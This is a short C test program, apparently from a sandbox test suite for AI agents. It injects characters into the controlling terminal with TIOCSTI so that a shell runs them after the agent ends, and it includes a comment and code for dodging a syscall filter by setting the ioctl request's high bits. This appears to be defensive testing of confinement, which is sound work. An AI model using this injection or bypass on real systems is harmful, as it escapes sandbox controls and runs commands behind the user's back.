/* Types a line into its own terminal, as if the person had: what a shell reads there after the agent ended is run. */
#include "attack.h"
#include <termios.h>

int main(void) {
  started();
  int tty = open("/dev/tty", O_RDWR);
  if (tty < 0) blocked("open /dev/tty");
  const char *line = "typed\n";
  /* The kernel looks at the low 32 bits of the request only: a filter that compares all 64 is walked around. */
  unsigned long request = getenv("HIGH_BITS") == NULL ? TIOCSTI : TIOCSTI | 1UL << 32;
  for (const char *c = line; *c != 0; c++)
    if (syscall(SYS_ioctl, tty, request, c) != 0) blocked("TIOCSTI");
  char text[64];
  int n = read(tty, text, sizeof text - 1);
  if (n <= 0) blocked("read back");
  text[n] = 0;
  succeeded("%s", text);
}
